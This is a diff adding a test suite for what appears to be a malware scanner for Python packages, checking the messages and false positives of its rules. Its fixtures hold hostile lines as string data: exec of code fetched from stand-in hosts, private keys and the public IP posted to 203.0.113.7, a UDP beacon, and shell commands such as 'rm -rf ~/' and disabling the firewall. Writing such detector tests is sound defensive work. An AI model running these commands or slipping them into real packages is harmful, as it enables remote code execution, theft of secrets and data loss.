@@ -1,0 +1,209 @@
+import { expect, test } from 'vitest';
+import type { Finding } from '../../../src/analysis/report/finding.ts';
+import { analysePacked, inspect, python, sdist, wheel } from '../../support/inspect.ts';
+
+function textsOf(finding: Finding | undefined, role: string): readonly string[] {
+  return (finding?.chain ?? []).filter((link) => link.role === role).map((link) => link.text);
+}
+
+test('a source names the address that was asked, and nothing that the call was not given', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python('import requests', "exec(requests.get('https://one.code.invalid/x').text)"),
+    'pkg/named.py': python('import requests', "exec(requests.get(url='https://two.code.invalid/x').text)"),
+  });
+
+  const findings = await inspect('remote-code', file);
+
+  expect(findings.flatMap((f) => textsOf(f, 'source')).toSorted()).toEqual([
+    'requests.get(https://one.code.invalid/x)',
+    'requests.get(https://two.code.invalid/x)',
+  ]);
+});
+
+test('no link of a chain is shown twice', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import requests',
+      'def connect(private_key):',
+      "    requests.post('https://203.0.113.7/k', json={'a': private_key, 'b': private_key})",
+    ),
+  });
+
+  const { findings } = await analysePacked(file);
+
+  const chains = findings.map((f) => f.chain.map((c) => `${c.role} ${c.path}:${String(c.line)} ${c.text}`));
+  expect(chains.length).toBeGreaterThan(0);
+  expect(chains.map((links) => links.length)).toEqual(chains.map((links) => new Set(links).size));
+});
+
+test('a function that a plug-in hands to its host is not said to run at import', async () => {
+  const file = wheel(
+    {
+      'pkg/__init__.py': '',
+      'pkg/plugin.py': python('import requests', 'def report(item):', "    requests.get('https://203.0.113.7/seen')"),
+    },
+    { entryPoints: '[pytest11]\npkg = pkg.plugin:report\n' },
+  );
+
+  const [finding] = await inspect('unasked-network', file);
+
+  expect(finding?.message).toBe('Talks to 203.0.113.7 (raw-address) when its host program calls the plug-in.');
+  expect(textsOf(finding, 'context')[0]).toBe('pkg.plugin:report runs when its host program calls the plug-in');
+});
+
+test('a program that another tool starts on command is a command', async () => {
+  const file = wheel(
+    {
+      'pkg/__init__.py': '',
+      'pkg/cli.py': python('import subprocess', 'def main():', "    subprocess.run(['some-tool', '--now'])"),
+    },
+    { entryPoints: '[pipx.run]\npkg = pkg.cli:main\n' },
+  );
+
+  expect(await inspect('unasked-process', file)).toEqual([]);
+});
+
+test.each([
+  ['pip install --no-input -i https://pypi.org/simple first>=1.0', 'first>=1.0'],
+  ['pip install first && pip install second && echo done', 'first, second'],
+  ["python -m pip install --target lib 'first[x]' second", 'first[x], second'],
+  ['pip install -r requirements.txt', 'what requirements.txt lists'],
+  ['pip install .', 'a project of its own folder'],
+])('%s: says what is installed, without the options', async (command, named) => {
+  const file = sdist({
+    'setup.py': python(
+      'import os',
+      'from setuptools import setup',
+      `os.system(${JSON.stringify(command)})`,
+      "setup(name='example')",
+    ),
+  });
+
+  const findings = await inspect('foreign-install', file);
+
+  expect(findings.map((f) => f.message)).toEqual([`Installs ${named} at install.`]);
+});
+
+test.each([
+  ['taskkill /f /im chrome.exe', 'Stops other programs.'],
+  ['netsh advfirewall set allprofiles state off', 'Reads or weakens network settings.'],
+  ['rm -rf ~/', 'Destroys data.'],
+  ['xdg-open https://example.invalid/docs', 'Opens a page of example.invalid.'],
+  ['curl -O https://example.invalid/tool', 'Starts a download from example.invalid.'],
+])('%s: the message says what the command does', async (command, message) => {
+  const file = wheel({ 'pkg/__init__.py': python('import os', `os.system(${JSON.stringify(command)})`) });
+
+  const findings = await inspect('shell-payload', file);
+
+  expect(findings.map((f) => f.message)).toEqual([message]);
+});
+
+test('a datagram socket that is pointed at an address sends nothing; what it sends afterwards is traffic', async () => {
+  const probe = [
+    'import socket',
+    'def own_address():',
+    '    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
+    "    s.connect(('203.0.113.7', 9))",
+  ];
+  const silent = wheel({ 'pkg/__init__.py': python(...probe, '    return s.getsockname()[0]') });
+  const beacon = wheel({ 'pkg/__init__.py': python(...probe, "    s.send(b'here')", 'own_address()') });
+
+  expect(await inspect('throwaway-host', silent)).toEqual([]);
+  expect(await inspect('unasked-network', beacon)).toMatchObject([{ line: 5, score: 10 }]);
+});
+
+test('data that only chose the address is not said to be sent there', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os',
+      'import requests',
+      'class Settings:',
+      '    def __init__(self):',
+      '        self.values = dict(os.environ)',
+      'def fetch(settings: Settings, client):',
+      '    values = Settings().values',
+      '    link = client.look_up(values)',
+      '    session = requests.Session()',
+      "    session.headers['User-Agent'] = values.get('AGENT')",
+      '    return session.get(link.direct_url)',
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toEqual([]);
+});
+
+test('a public address that is passed on is called that', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import requests',
+      "ip = requests.get('https://api.ipify.org').text",
+      "requests.post('https://203.0.113.7/', data=ip)",
+    ),
+  });
+
+  const findings = await inspect('exfiltration', file);
+
+  expect(findings.map((f) => f.message)).toEqual(['Sends the public address of this machine to 203.0.113.7.']);
+});
+
+test('a sentence or a hole that holds the name of a wallet is no wallet file', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import requests',
+      'import electrum_keys',
+      'def post(name):',
+      "    text = open('This works with a keystore, and with {} only.'.format(name)).read()",
+      '    key = open(electrum_keys.made()).read()',
+      "    requests.post('https://collector.invalid/', json=[text, key])",
+    ),
+  });
+
+  expect(await inspect('exfiltration', file)).toEqual([]);
+});
+
+test('a file beside the module is read from disk, by whatever function may fetch as well', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os',
+      'from urllib.parse import urlparse',
+      'from urllib.request import urlopen',
+      'def load(path):',
+      "    if urlparse(path).scheme in ('http', 'https'):",
+      '        return urlopen(path).read()',
+      '    return open(path).read()',
+      "grammar = load(os.path.join(os.path.dirname(__file__), 'grammar.txt'))",
+    ),
+    'pkg/grammar.txt': 'x',
+  });
+
+  expect(await inspect('unasked-network', file)).toEqual([]);
+});
+
+test('a wheel under the name of an sdist says of itself what its own metadata says', async () => {
+  const { bytes } = wheel({ 'pkg/__init__.py': 'VALUE = 1\n' });
+
+  expect(await inspect('thin-metadata', { filename: 'pkg-1.0.0-py3-none-any.tar.gz', bytes })).toEqual([]);
+});
+
+test('a short summary and a short description are called short, not absent', async () => {
+  const file = wheel(
+    { 'pkg/__init__.py': 'VALUE = 1\n' },
+    { metadata: { Summary: 'Tools', 'Project-URL': null, 'Home-page': null, Classifier: null }, description: 'Held.' },
+  );
+
+  const [finding] = await inspect('thin-metadata', file);
+
+  expect(finding?.message).toBe(
+    'A tiny archive without a project address, classifiers, more than a word of summary, more than a few words of description.',
+  );
+});
+
+test('an object that stands for a server is made, not talked to', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python('import xmlrpc.client', "proxy = xmlrpc.client.ServerProxy('https://203.0.113.7/')"),
+  });
+
+  expect((await inspect('unasked-network', file)).map((f) => f.message)).toEqual([
+    'Makes a client of 203.0.113.7 (raw-address) at import.',
+  ]);
+});
